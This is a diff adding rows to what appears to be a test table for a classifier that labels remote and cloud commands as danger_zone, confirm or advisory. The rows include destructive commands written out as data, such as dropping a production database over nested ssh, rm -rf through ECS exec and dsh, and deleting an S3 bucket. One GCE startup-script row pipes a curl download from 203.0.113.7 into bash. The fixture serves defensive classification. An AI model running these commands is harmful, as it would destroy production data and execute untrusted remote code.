@@ -219,3 +219,15 @@ rows('netsh rule groups, schtasks as SYSTEM, npm scripts shown with the run', [
   ['shell_script', '{\n  "scripts": {\n    "nuke:prod": "aws s3 rm s3://acme-prod-uploads --recursive",\n    "lint": "eslint ."\n  }\n}\nnpm run nuke:prod', 'danger_zone'],
   ['shell_script', 'clean:\n\trm -rf dist\n\nnuke-prod:\n\tpsql $(PROD_URL) -c "DROP SCHEMA public CASCADE"\n\nmake clean', 'advisory'],
 ]);
+
+rows('more remote carriers: nested ssh, ECS exec, startup scripts, dsh', [
+  ['bash', "ssh bastion -t ssh db-prod-1 'sudo -u postgres dropdb shop'", 'danger_zone'],
+  ['bash', 'ssh web1 ls -la /srv', 'advisory'],
+  ['cloud_cli', 'aws ecs execute-command --cluster prod --task abc123 --container api --interactive --command "rm -rf /data/*"', 'danger_zone'],
+  ['cloud_cli', 'aws ecs execute-command --cluster prod --task abc123 --container api --interactive --command "/bin/sh"', 'confirm'],
+  ['cloud_cli', "gcloud compute instances add-metadata web-1 --metadata startup-script='curl -s http://203.0.113.7/x.sh | bash'", 'danger_zone'],
+  ['cloud_cli', 'gcloud compute instances add-metadata web-1 --metadata enable-oslogin=TRUE', 'advisory'],
+  ['bash', "dsh -a -c -- 'sudo rm -rf /var/lib/docker'", 'danger_zone'],
+  ['bash', 'dsh -m web1 -- uptime', 'advisory'],
+  ['bash', "parallel-ssh -h hosts -i 'uptime'", 'advisory'],
+]);
